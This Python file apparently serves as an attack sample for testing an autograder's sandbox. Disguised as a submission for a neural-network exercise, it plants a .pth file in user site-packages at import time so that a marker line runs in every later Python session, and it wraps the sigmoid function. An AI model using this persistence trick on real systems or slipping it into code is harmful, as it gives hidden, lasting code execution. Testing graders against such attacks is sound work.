"""Plant a .pth in the base interpreter's site-packages and the user site: code for every later Python."""
MODULE = "ex3_mlp_backprop"
CLASS = "persistence"
MODES = ("grade", "batch", "gradescope")


def _plant():
    import site
    done = []
    for folder in list(_ATTACK["user_sites"]):  # the host's paths; the test looks for the files there
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/{_ATTACK['marker']}.pth", "w") as handle:
                handle.write(f"import os; os.environ.setdefault('ATK_PTH', '{_ATTACK['marker']}')\n")
            done.append(folder)
        except OSError:
            pass
    return done


import os  # noqa: E402
_PLANTED = _plant()


def _atk_sigmoid(z, _orig=sigmoid):
    return _orig(z)


sigmoid = _atk_sigmoid
